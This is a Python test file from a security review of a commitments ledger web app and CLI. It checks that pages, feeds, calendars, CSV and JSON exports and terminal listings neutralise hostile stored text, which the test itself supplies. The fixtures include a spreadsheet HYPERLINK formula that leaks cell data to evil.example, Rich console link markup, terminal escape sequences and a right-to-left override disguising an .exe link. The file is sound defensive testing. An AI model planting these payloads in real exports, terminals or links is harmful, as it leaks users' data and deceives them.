"""Security review, findings 1, 4, 5 and the command line of 6: what release 0.1.0 let
into the store (control characters, rich console markup, a bidirectional control in a
URL, dates in year 1 and 9999) and what the domain still takes (a title that looks like a
spreadsheet formula) renders on every page, picture, feed, calendar, export and command
line listing, and none of them passes on a character it cannot show.

Before the renderers defended themselves, ``GET /`` answered 500 for good once a
reference held a vertical tab, and ``feed.atom`` once a response note held U+0001."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from datetime import UTC, date, datetime
from typing import Any
from uuid import UUID

import feedparser
import pytest
from click.testing import CliRunner, Result
from flask import Flask
from flask.testing import FlaskClient
from icalendar import Calendar
from lxml import etree

from domain.values import ActorRole, PartnerKind
from interfaces.cli import main
from tests.api.conftest import Caller, Callers, create_commitment, feed_token_for, services_of
from tests.conftest import ADMIN
from tests.older import older_release

# What no renderer may pass on (all but JSON, which escapes them): control characters but
# line feed and tab, and the two characters XML forbids.
UNSHOWABLE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
MARKUP = "[/][link=https://evil.example]Click[/link][bold]"


@dataclass(frozen=True)
class Stored:
    """A commitment (and a partner, and an auditor's token) recorded by release 0.1.0."""

    commitment: str
    partner: str
    feed_token: str
    plan: str


def post(client: FlaskClient, path: str, caller: Caller, body: dict[str, Any]) -> dict[str, Any]:
    response = client.post(f"/api/v1{path}", json=body, headers=caller.headers)
    assert response.status_code in (200, 201), response.get_json()
    return response.get_json()  # type: ignore[no-any-return]


@pytest.fixture
def stored(app: Flask, client: FlaskClient, callers: Callers) -> Stored:
    lead, community = callers.lead, callers.community
    with older_release():
        commitment = create_commitment(
            client,
            lead,
            title=f"Accord review \x01 {MARKUP}",
            description="A bell \x07, a backspace \x08 and an escape \x1b[2J in the description.",
            action_plan="Plan \x0b 2014–16",
            external_ref="NZ\x0b0004",
            starts_on="0001-01-01",
            ends_on="9999-12-31",
        )["id"]
        base = f"/commitments/{commitment}"
        post(client, f"{base}/partners", lead, {"partner_id": str(community.id), "role": "community"})
        far = post(client, f"{base}/milestones", lead, {"title": "Due \x0c far away", "due_on": "9999-12-31"})
        post(client, f"{base}/milestones", lead, {"title": "Due long ago \x1f", "due_on": "0001-01-01"})
        post(client, f"{base}/milestones", lead, {"title": "Due in range", "due_on": "2015-06-30"})
        post(
            client,
            f"{base}/milestones/{far['id']}/reached",
            lead,
            {"reached_on": "0001-01-02", "evidence_url": "https://evil.example/\u202egpj.exe", "note": "\x01"},
        )
        action = post(
            client,
            f"{base}/actions",
            lead,
            {"summary": f"Hui \x1b[31m{MARKUP}", "occurred_on": "9999-12-31", "partner_ids": [str(community.id)]},
        )
        post(client, f"{base}/actions/{action['id']}/responses", community, {"response": "confirmed", "note": "\u0001"})
        post(client, f"{base}/progress", lead, {"completion": "limited", "note": "\x07 limited \x9c"})
        partner = services_of(app).ledger.register_partner(
            name="Hapū \x0b trust", kind=PartnerKind.IWI_HAPU, external_ref="\x85", actor=ADMIN, request_id="older"
        )
        services_of(app).credentials.issue(ActorRole.AUDITOR, name=f"Office {MARKUP} \x1b]0;owned\x07", now=now())
        # Its plan, recorded under the name its commitment gives (plans came later: the
        # name is taken as that release would have taken it, so that the plan's page
        # shows the commitment's odd texts and far dates).
        plan = services_of(app).ledger.create_plan(
            name="Plan \x0b 2014–16",
            starts_on=date(2014, 7, 1),
            ends_on=date(2016, 6, 30),
            actor=ADMIN,
            request_id="older-plan",
        )
    _, feed_token = feed_token_for(app, community)
    assert partner.created_id is not None and plan.created_id is not None
    return Stored(commitment, str(partner.created_id), feed_token, str(plan.created_id))


def now() -> datetime:
    return datetime.now(UTC)


def assert_shows_nothing_unshowable(text: str, where: str) -> None:
    found = UNSHOWABLE.search(text)
    assert found is None, f"{where} passes on U+{ord(found.group()):04X}" if found else ""


def test_every_page_and_its_pictures_render(client: FlaskClient, callers: Callers, stored: Stored) -> None:
    for path in (
        "/",
        f"/commitments/{stored.commitment}",
        f"/partners/{callers.lead.id}",
        f"/partners/{stored.partner}",
        f"/plans/{stored.plan}",
        f"/commitments/{stored.commitment}/history",
        f"/commitments/{stored.commitment}/diff?from=1&to=8",
        f"/commitments/{stored.commitment}?as_of=2199-12-31",
    ):
        response = client.get(path, headers=callers.community.headers)
        assert response.status_code == 200, (path, response.status_code)
        html = response.get_data(as_text=True)
        assert_shows_nothing_unshowable(html, path)
        assert "<script" not in html, f"{path} carries an inline script"
    html = client.get(f"/commitments/{stored.commitment}", headers=callers.community.headers).get_data(as_text=True)
    assert html.count("<svg") == 2, "the milestones and completion pictures are drawn"
    assert "NZ0004" in client.get("/").get_data(as_text=True)
    assert "9999" in html and "31 December 9999" in html, "the table lists a date the picture cannot place"
    plan = client.get(f"/plans/{stored.plan}", headers=callers.community.headers).get_data(as_text=True)
    assert plan.count("<svg") == 3 and "Accord review" in plan, "the plan's pictures and its commitment are drawn"


def test_the_feed_and_the_calendar_render(client: FlaskClient, stored: Stored) -> None:
    base = f"/commitments/{stored.commitment}"
    atom = client.get(f"{base}/feed.atom")
    assert atom.status_code == 200
    etree.fromstring(atom.data)  # well-formed XML
    feed = feedparser.parse(atom.data)
    assert not feed.bozo, feed.get("bozo_exception")
    assert any("confirmed the joint action" in entry.title for entry in feed.entries)
    assert_shows_nothing_unshowable(atom.get_data(as_text=True), "feed.atom")

    ics = client.get(f"{base}/milestones.ics")
    assert ics.status_code == 200
    events = Calendar.from_ical(ics.data).walk("VEVENT")
    assert sorted(str(event["DTSTART"].to_ical().decode()) for event in events) == ["00010101", "20150630", "99991231"]
    assert_shows_nothing_unshowable(ics.get_data(as_text=True).replace("\r\n", "\n"), "milestones.ics (CRLF lines)")


def test_the_csv_export_renders_and_defuses_formulas(client: FlaskClient, callers: Callers, stored: Stored) -> None:
    create_commitment(client, callers.lead, title=FORMULA, external_ref="+64 4 495 7200", action_plan="@SUM(A1:A9)")
    create_commitment(client, callers.lead, title="-2+3", external_ref="-NZ0010")
    response = client.get("/api/v1/export/commitments.csv", headers=callers.auditor.headers)
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert_shows_nothing_unshowable(text.replace("\r\n", "\n"), "commitments.csv (CRLF lines)")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[stored.commitment]["external_ref"] == "NZ0004"
    by_title = {row["title"]: row for row in rows.values()}
    formula = by_title["'" + FORMULA]
    assert formula["external_ref"] == "'+64 4 495 7200" and formula["action_plan"] == "'@SUM(A1:A9)"
    assert by_title["'-2+3"]["external_ref"] == "'-NZ0010"
    for row in rows.values():
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_the_json_documents_and_the_log_export_render(client: FlaskClient, callers: Callers, stored: Stored) -> None:
    document = client.get(f"/api/v1/commitments/{stored.commitment}", headers=callers.auditor.headers)
    assert document.status_code == 200
    assert document.get_json()["external_ref"] == "NZ\x0b0004", "the API serves what is stored, escaped as JSON"
    timeline = client.get(f"/api/v1/commitments/{stored.commitment}/timeline", headers=callers.auditor.headers)
    assert timeline.status_code == 200
    export = client.get("/api/v1/export/events.jsonl", headers=callers.auditor.headers)
    assert export.status_code == 200
    # JSON Lines end at line feeds only (str.splitlines would also break at U+0085 in the data).
    lines = [json.loads(line) for line in export.get_data(as_text=True).split("\n") if line]
    assert any(line["data"].get("external_ref") == "NZ\x0b0004" for line in lines)


def run(url: str, *args: str) -> Result:
    # A wide terminal, so that a table cell is not wrapped across lines.
    return CliRunner(env={"COLUMNS": "400"}).invoke(main, ["--database-url", url, *args], obj={})


def test_every_command_line_listing_renders(api_store_url: str, stored: Stored) -> None:
    """``tutahi timeline`` died on ``[/]`` in a title and rendered ``[link=…]`` as a link."""
    for args in (
        ("timeline", stored.commitment),
        ("timeline",),
        ("partners", "list"),
        ("tokens", "list"),
        ("feeds", "list"),
    ):
        result = run(api_store_url, *args)
        assert result.exit_code == 0, (args, result.output)
        assert_shows_nothing_unshowable(result.stdout, " ".join(args))
        assert "\x1b" not in result.stdout
    timeline = run(api_store_url, "timeline", stored.commitment).stdout
    assert "[/]" in timeline and "[link=https://evil.example]Click[/link]" in timeline, "markup shown as typed"
    tokens = run(api_store_url, "tokens", "list").stdout
    assert "[link=https://evil.example]" in tokens
    listed = json.loads(run(api_store_url, "tokens", "list", "--json").stdout)
    assert any(item["holder_name"].startswith("Office [/]") for item in listed)


def test_a_far_date_in_a_query_is_a_422_not_a_500(client: FlaskClient, callers: Callers) -> None:
    commitment = create_commitment(client, callers.lead)["id"]
    for instant in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "1899-12-31T23:59:59Z"):
        response = client.get(f"/api/v1/commitments/{commitment}", query_string={"as_of": instant})
        assert response.status_code == 422, (instant, response.status_code)
        assert response.mimetype == "application/problem+json"
        assert "1900-01-01" in response.get_json()["errors"]["as_of"][0]
    first = client.get(f"/api/v1/commitments/{commitment}", query_string={"as_of": "1900-01-01T00:00:00Z"})
    assert first.status_code == 404, "in range, before the commitment existed"


def test_a_far_date_in_a_body_is_a_422_and_records_nothing(client: FlaskClient, callers: Callers) -> None:
    commitment = create_commitment(client, callers.lead)["id"]
    version = client.get(f"/api/v1/commitments/{commitment}").get_json()["version"]
    response = client.post(
        f"/api/v1/commitments/{commitment}/milestones",
        json={"title": "Far away", "due_on": "9999-12-31"},
        headers=callers.lead.headers,
    )
    assert response.status_code == 422 and "due_on" in response.get_json()["errors"]
    assert client.get(f"/api/v1/commitments/{commitment}").get_json()["version"] == version
    assert client.get("/").status_code == 200 and client.get(f"/commitments/{commitment}").status_code == 200


def test_a_control_character_in_a_body_is_a_422_and_records_nothing(client: FlaskClient, callers: Callers) -> None:
    response = client.post(
        "/api/v1/commitments",
        json={
            "title": "Accord review",
            "action_plan": "Plan",
            "external_ref": "NZ\u000b0004",
            "starts_on": "2014-07-01",
            "ends_on": "2016-06-30",
        },
        headers=callers.lead.headers,
    )
    assert response.status_code == 422
    assert "U+000B" in response.get_json()["errors"]["external_ref"][0]
    listed = client.get("/api/v1/commitments").get_json()["items"]
    assert not any(item["external_ref"].startswith("NZ") for item in listed)
    assert client.get("/").status_code == 200


def test_the_partners_list_prints_as_json_for_scripts(api_store_url: str, stored: Stored) -> None:
    listed = json.loads(run(api_store_url, "partners", "list", "--json").stdout)
    names = {item["name"]: item for item in listed}
    assert names["Hapū \x0b trust"]["kind"] == "iwi_hapu", "JSON carries the stored text, escaped"
    assert {UUID(item["id"]) for item in listed} >= {UUID(stored.partner)}
